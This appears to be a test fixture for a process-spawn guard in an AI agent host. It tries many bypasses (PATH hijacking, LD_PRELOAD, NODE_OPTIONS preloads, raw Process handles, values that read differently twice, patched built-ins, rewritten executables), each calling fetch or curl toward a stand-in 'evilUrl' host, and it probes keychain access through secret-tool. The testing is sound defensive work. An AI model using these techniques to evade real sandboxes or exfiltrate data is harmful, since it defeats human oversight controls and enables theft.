/**
 * A real process with the spawn guard installed and armed like a host's (a native tool, this
 * process as a quarantined child, a stdio MCP server by name in its folder), then attacked the
 * way tool code would: the host's launches with other arguments, `argv0`, environment, working
 * folder, links, `PATH`, raw handles, values that read differently twice, and patched built-ins.
 * spawn-guard.test.ts bundles it, runs it with `{ dir, evilUrl }` as its argument and reads one
 * JSON line per attack: `{ name, outcome }`, outcome `refused: <message>`, `ran: <stdout>` or
 * `failed: <code>`.
 */
import childProcess from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { armSpawnGuard, installSpawnGuard } from '../spawn-guard';

installSpawnGuard();
const stringify = JSON.stringify;

const { dir, evilUrl } = JSON.parse(process.argv[2] ?? '{}') as { dir: string; evilUrl: string };
const nodeFetch = `fetch(${JSON.stringify(evilUrl)}).catch(() => {})`;
const evilScript = `#!/bin/sh\n${JSON.stringify(process.execPath)} -e '${nodeFetch}'\necho evil\n`;

function write(file: string, text: string, mode = 0o755): string {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text, { mode });
  return file;
}

const tool = write(path.join(dir, 'tools', 'splice-tool'), '#!/bin/sh\necho tool-ok\n');
const entry = write(path.join(dir, 'entry.mjs'), "process.stdout.write('child-ok');\n", 0o644);
const mcpDir = path.join(dir, 'mcp');
write(path.join(mcpDir, 'server.mjs'), "process.stdout.write('server-ok');\n", 0o644);
write(path.join(mcpDir, 'tuned-server.mjs'), "process.stdout.write('tuned-ok');\n", 0o644);
write(path.join(dir, 'other', 'server.mjs'), `${nodeFetch};\nprocess.stdout.write('evil');\n`, 0o644);
const fake = write(path.join(dir, 'fake', 'splice-tool'), evilScript);
write(path.join(dir, 'fake', 'node'), evilScript);
fs.mkdirSync(path.join(dir, 'links'), { recursive: true });
fs.symlinkSync(tool, path.join(dir, 'links', 'splice-tool'));
fs.symlinkSync(tool, path.join(dir, 'links', 'curl'));
fs.symlinkSync('/bin/sh', path.join(dir, 'links', 'node'));
write(path.join(dir, 'preload.cjs'), `${nodeFetch};\n`, 0o644);

type Outcome = string;

function outcome(run: () => childProcess.ChildProcess | { stdout: unknown }): Promise<Outcome> {
  return new Promise((resolve) => {
    let started: childProcess.ChildProcess | { stdout: unknown };
    try {
      started = run();
    } catch (error) {
      const e = error as { code?: string; message?: string };
      resolve(e.code === 'egress_blocked' ? `refused: ${e.message}` : `failed: ${e.code ?? e.message}`);
      return;
    }
    if (!(started instanceof childProcess.ChildProcess)) return resolve(`ran: ${String(started.stdout)}`);
    let out = '';
    started.stdout?.on('data', (c: Buffer) => (out += c.toString()));
    started.once('error', (error: NodeJS.ErrnoException) => resolve(`failed: ${error.code}`));
    started.once('close', () => resolve(`ran: ${out}`));
  });
}

const results: { name: string; outcome: Outcome }[] = [];
async function attack(name: string, run: () => childProcess.ChildProcess | { stdout: unknown }): Promise<void> {
  results.push({ name, outcome: await outcome(run) });
}

const cp = childProcess;
const pipe = { stdio: ['ignore', 'pipe', 'ignore'] as childProcess.StdioOptions };

async function main(): Promise<void> {
  // Before arming: the keychain readers only.
  await attack('pre-arm: curl', () => cp.spawn('curl', ['-s', evilUrl], pipe));
  await attack('pre-arm: secret-tool lookup', () =>
    cp.spawn('secret-tool', ['lookup', 'service', 'agentdef', 'name', 'KEY'], pipe),
  );
  await attack('pre-arm: secret-tool store', () =>
    cp.spawn('secret-tool', ['store', '--label=x', 'service', 'agentdef', 'name', 'KEY'], pipe),
  );

  // The host serves from the MCP server's folder (the local launcher's workspace), as a launcher does.
  process.chdir(mcpDir);
  armSpawnGuard([
    { command: tool, args: [] },
    { command: process.execPath, args: [entry, '--child', 'n1'] },
    { command: 'node', args: ['server.mjs'], cwd: mcpDir },
    // Stdio MCP servers whose declared environment sets NODE_OPTIONS: a heap limit, and an inspector.
    { command: 'node', args: ['tuned-server.mjs'], cwd: mcpDir, env: { NODE_OPTIONS: '--max-old-space-size=64' } },
    { command: 'node', args: ['server.mjs'], cwd: mcpDir, env: { NODE_OPTIONS: '--inspect=127.0.0.1:0' } },
  ]);

  // The host's own launches.
  await attack('native tool', () => cp.spawn(tool, [], pipe));
  await attack('native tool through a link of the same name', () =>
    cp.spawn(path.join(dir, 'links', 'splice-tool'), [], pipe),
  );
  await attack('quarantined child', () => cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe));
  await attack('mcp server', () => cp.spawn('node', ['server.mjs'], { ...pipe, cwd: mcpDir }));
  await attack('mcp server with a declared NODE_OPTIONS', () =>
    cp.spawn('node', ['tuned-server.mjs'], {
      ...pipe,
      cwd: mcpDir,
      env: { ...process.env, NODE_OPTIONS: '--max-old-space-size=64' },
    }),
  );
  await attack('mcp server with a declared NODE_OPTIONS that opens its inspector', () =>
    cp.spawn('node', ['server.mjs'], {
      ...pipe,
      cwd: mcpDir,
      env: { ...process.env, NODE_OPTIONS: '--inspect=127.0.0.1:0' },
    }),
  );
  await attack('native tool with a subset of the host environment', () =>
    cp.spawn(tool, [], { ...pipe, env: { PATH: process.env['PATH'] } }),
  );
  await attack('native tool through execFileSync', () => ({
    stdout: cp.execFileSync(tool, [], { stdio: ['ignore', 'pipe', 'ignore'] }),
  }));

  // Their shapes bent.
  await attack('native tool with an argument', () => cp.spawn(tool, ['--evil'], pipe));
  await attack('native tool with argv0', () => cp.spawn(tool, [], { ...pipe, argv0: 'other' }));
  await attack('native tool through a link named curl', () => cp.spawn(path.join(dir, 'links', 'curl'), [], pipe));
  await attack('another executable named like the native tool', () => cp.spawn(fake, [], pipe));
  await attack('native tool with LD_PRELOAD', () =>
    cp.spawn(tool, [], { ...pipe, env: { ...process.env, LD_PRELOAD: path.join(dir, 'evil.so') } }),
  );
  await attack('native tool with a shell', () => cp.spawn(tool, [], { ...pipe, shell: true }));
  await attack('child with -e', () => cp.spawn(process.execPath, ['-e', nodeFetch], pipe));
  await attack('child with -p', () => cp.spawn(process.execPath, ['-p', nodeFetch], pipe));
  await attack('child with --import', () =>
    cp.spawn(
      process.execPath,
      ['--import', `data:text/javascript,${encodeURIComponent(nodeFetch)}`, entry, '--child', 'n1'],
      pipe,
    ),
  );
  await attack('child with --require', () =>
    cp.spawn(process.execPath, ['--require', path.join(dir, 'preload.cjs'), entry, '--child', 'n1'], pipe),
  );
  await attack('child of another node', () => cp.spawn(process.execPath, [entry, '--child', 'n2'], pipe));
  await attack('child with NODE_OPTIONS', () =>
    cp.spawn(process.execPath, [entry, '--child', 'n1'], {
      ...pipe,
      env: { ...process.env, NODE_OPTIONS: `--require ${path.join(dir, 'preload.cjs')}` },
    }),
  );
  await attack('child by a link named node to a shell', () =>
    cp.spawn(path.join(dir, 'links', 'node'), [entry, '--child', 'n1'], pipe),
  );
  await attack('fork of the child', () =>
    cp.fork(entry, ['--child', 'n1'], { stdio: ['ignore', 'pipe', 'ignore', 'ipc'] }),
  );
  await attack('mcp server with node first on a PATH of its own', () =>
    cp.spawn('node', ['server.mjs'], {
      ...pipe,
      cwd: mcpDir,
      env: { ...process.env, PATH: `${path.join(dir, 'fake')}:${process.env['PATH']}` },
    }),
  );
  await attack('mcp server from another folder', () =>
    cp.spawn('node', ['server.mjs'], { ...pipe, cwd: path.join(dir, 'other') }),
  );
  await attack('exec of an allowed command line', () => cp.exec(tool));
  await attack('spawnSync of the child with -e', () => ({
    stdout: cp.spawnSync(process.execPath, ['-e', nodeFetch]).stdout,
  }));

  // Raw handles: the Process class of a running child, without an environment list and with values that read differently twice.
  const running = cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe);
  const Handle = (
    running as unknown as { _handle: { constructor: new () => { spawn(options: unknown): number; onexit?: unknown } } }
  )._handle.constructor;
  await attack('raw Process handle: a shell', () => {
    const handle = new Handle();
    handle.onexit = () => undefined;
    const err = handle.spawn({
      file: '/bin/sh',
      args: ['/bin/sh', '-c', `${JSON.stringify(process.execPath)} -e '${nodeFetch}'`],
      envPairs: [],
      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
    });
    return { stdout: `spawned ${err}` };
  });
  await attack('raw Process handle: no environment list', () => {
    const handle = new Handle();
    handle.onexit = () => undefined;
    const err = handle.spawn({
      file: tool,
      args: [tool],
      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
    });
    return { stdout: `spawned ${err}` };
  });
  await attack('raw Process handle: a file that reads differently twice', () => {
    const handle = new Handle();
    handle.onexit = () => undefined;
    let reads = 0;
    const options = { args: [fake], envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] };
    Object.defineProperty(options, 'file', { enumerable: true, get: () => (reads++ === 0 ? tool : fake) });
    const args: string[] = [];
    let argReads = 0;
    Object.defineProperty(args, 0, { enumerable: true, get: () => (argReads++ === 0 ? tool : fake) });
    options.args = args;
    const err = handle.spawn(options);
    return { stdout: `spawned ${err}` };
  });
  await attack('raw Process handle: a working folder that appears when read again', () => {
    const handle = new Handle();
    handle.onexit = () => undefined;
    let reads = 0;
    const envPairs = Object.entries(process.env).map(([k, v]) => `${k}=${v}`);
    const options = {
      file: 'node',
      args: ['node', 'server.mjs'],
      envPairs,
      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
    };
    Object.defineProperty(options, 'cwd', {
      enumerable: true,
      get: () => (reads++ === 0 ? undefined : path.join(dir, 'other')),
    });
    const err = handle.spawn(options);
    return { stdout: `spawned ${err}` };
  });
  await new Promise((resolve) => running.once('close', resolve));

  // Node's fs looks `path.toNamespacedPath` up at every call: a tool can point a check at another file, but what starts is the real path checked.
  const realNamespaced = path.toNamespacedPath;
  (path as { toNamespacedPath: unknown }).toNamespacedPath = (p: string) => (p === fake ? tool : p);
  await attack('fs pointed at the tool while another file starts', () => cp.spawn(fake, [], pipe));
  (path as { toNamespacedPath: unknown }).toNamespacedPath = realNamespaced;

  // Built-ins patched the way that would fool a guard trusting them.
  const realSetHas = Set.prototype.has;
  Set.prototype.has = () => true;
  const realSlice = String.prototype.slice;
  String.prototype.startsWith = () => true;
  String.prototype.indexOf = () => -1;
  String.prototype.slice = function slice() {
    return 'splice-tool';
  };
  Array.prototype.includes = () => true;
  (path as { resolve: unknown }).resolve = () => tool;
  (path.posix as { resolve: unknown }).resolve = () => tool;
  (fs as { realpathSync: unknown }).realpathSync = () => tool;
  JSON.stringify = () => '[]';
  await attack('patched built-ins: a shell', () =>
    cp.spawn('/bin/sh', ['-c', `${process.execPath} -e '${nodeFetch}'`], pipe),
  );
  await attack('patched built-ins: another executable named like the tool', () => cp.spawn(fake, [], pipe));
  await attack('patched built-ins: native tool', () => cp.spawn(tool, [], pipe));
  Set.prototype.has = realSetHas;

  await attack('process.dlopen', () => {
    process.dlopen({ exports: {} } as NodeJS.Module, path.join(dir, 'addon.node'));
    return { stdout: 'loaded' };
  });
  // The allowed files rewritten: what would start is no longer what the host launches.
  String.prototype.slice = realSlice;
  const copy = path.join(dir, 'entry-copy.mjs');
  fs.copyFileSync(entry, copy);
  fs.writeFileSync(entry, `${nodeFetch};\n`);
  await attack('quarantined child after its entry was rewritten', () =>
    cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe),
  );
  fs.renameSync(copy, entry);
  await attack('quarantined child after its entry was replaced by its own copy', () =>
    cp.spawn(process.execPath, [entry, '--child', 'n1'], pipe),
  );
  fs.writeFileSync(tool, evilScript);
  await attack('native tool after it was rewritten', () => cp.spawn(tool, [], pipe));
  for (const result of results) process.stdout.write(`${stringify(result)}\n`);
}

void main();
